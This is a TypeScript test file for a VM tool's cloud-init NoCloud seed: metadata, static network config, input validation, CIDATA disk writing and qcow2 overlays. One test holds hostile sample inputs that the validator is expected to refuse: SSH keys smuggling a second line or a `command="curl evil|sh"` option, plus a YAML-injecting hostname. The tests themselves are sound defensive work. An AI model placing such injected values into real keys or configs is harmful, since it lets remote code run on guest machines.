import { execFile } from "node:child_process";
import { mkdtemp, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { InstanceSpec } from "@nvi/contracts";
import { describe, expect, it } from "vitest";
import { localRunner } from "../runner.ts";
import { checkDiskGuest, ensureOverlay, seedFiles, writeSeed } from "./qemu-disk.ts";

const sh = promisify(execFile);
const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq0d6lJ1E5y1r3yXz3b4q5z6u7v8w9x0y1z2A3B4C5D alice@laptop";
const spec: InstanceSpec = {
  instanceId: "inst_0123456789ABCDEFGHij",
  name: "deb-1",
  runtime: "qemu",
  image: "nvi-debian12",
  command: null,
  cpus: 2,
  memoryMiB: 512,
  mac: "0a:01:02:03:04:05",
  address: "10.40.1.7",
  prefixLen: 24,
  gateway: "10.40.1.1",
  sshKeys: [key],
  userData: "#cloud-config\nruncmd:\n  - echo hi\n",
};

describe("the NoCloud seed of a disk guest", () => {
  it("carries the hostname, instance id, SSH keys, the static network by MAC and the user-data as given", () => {
    const f = seedFiles(spec);
    expect(JSON.parse(f["meta-data"])).toEqual({
      "instance-id": "inst_0123456789ABCDEFGHij",
      "local-hostname": "deb-1",
      "public-keys": [key],
    });
    expect(JSON.parse(f["network-config"])).toEqual({
      version: 2,
      ethernets: {
        eth0: {
          match: { macaddress: "0a:01:02:03:04:05" },
          addresses: ["10.40.1.7/24"],
          routes: [{ to: "0.0.0.0/0", via: "10.40.1.1" }],
          mtu: 1500,
        },
      },
    });
    expect(f["user-data"]).toBe(spec.userData);
    const bare = seedFiles({ ...spec, sshKeys: undefined, userData: null });
    expect(JSON.parse(bare["meta-data"])["public-keys"]).toEqual([]);
    expect(bare["user-data"]).toBe("#cloud-config\n{}\n");
  });

  it("a key cannot smuggle a second line or options into the guest: the contract refuses it, and the seed quotes what it gets", () => {
    const bad = [`${key}\nssh-ed25519 AAAA evil`, `command="curl evil|sh" ${key}`, "ssh-ed25519 not*base64", ""];
    for (const k of bad) expect(InstanceSpec.safeParse({ ...spec, sshKeys: [k] }).success).toBe(false);
    expect(InstanceSpec.safeParse({ ...spec, sshKeys: Array(33).fill(key) }).success).toBe(false);
    expect(InstanceSpec.safeParse({ ...spec, userData: "x".repeat(65_537) }).success).toBe(false);
    // an older console sends neither field: still a valid spec
    const { sshKeys: _k, userData: _u, ...old } = spec;
    expect(InstanceSpec.safeParse(old).success).toBe(true);
    // a hostname with YAML in it stays a string value (meta-data is JSON)
    const meta = seedFiles({ ...spec, name: "a\n  evil: true" })["meta-data"];
    expect(Object.keys(JSON.parse(meta))).toEqual(["instance-id", "local-hostname", "public-keys"]);
  });

  it("refuses a disk guest too small to boot Debian, naming the field", () => {
    expect(() => checkDiskGuest({ ...spec, memoryMiB: 128 })).toThrow(
      /^memoryMiB: a disk-image VM \(nvi-debian12\) needs at least 256 MiB \(got 128\)/,
    );
    expect(() => checkDiskGuest(spec)).not.toThrow();
  });

  it("is written as a FAT disk labelled CIDATA holding the three files (read back with mtools)", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "nvi-seed-"));
    const img = path.join(dir, "seed.img");
    await writeSeed(localRunner, spec, img);
    const { stdout: label } = await sh("mlabel", ["-i", img, "-s", "::"]);
    expect(label).toMatch(/CIDATA/);
    for (const [name, text] of Object.entries(seedFiles(spec)))
      expect((await sh("mtype", ["-i", img, `::${name}`])).stdout).toBe(text);
    await writeSeed(localRunner, { ...spec, name: "deb-2" }, img); // rewritten in place on the next boot
    expect((await sh("mtype", ["-i", img, "::meta-data"])).stdout).toContain('"deb-2"');
  });

  it("gives each instance a copy-on-write overlay of the image, made once and kept", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "nvi-overlay-"));
    const base = path.join(dir, "base.qcow2");
    await sh("qemu-img", ["create", "-q", "-f", "qcow2", base, "64M"]);
    const overlay = path.join(dir, "disk.qcow2");
    await ensureOverlay(localRunner, base, overlay);
    const info = JSON.parse((await sh("qemu-img", ["info", "--output=json", overlay])).stdout) as {
      "backing-filename": string;
      "virtual-size": number;
    };
    expect(info["backing-filename"]).toBe(base);
    expect(info["virtual-size"]).toBe(64 * 1024 * 1024);
    const before = await readFile(overlay);
    await ensureOverlay(localRunner, base, overlay); // the VM's disk is never replaced by a fresh one
    expect(await readFile(overlay)).toEqual(before);
  });
});
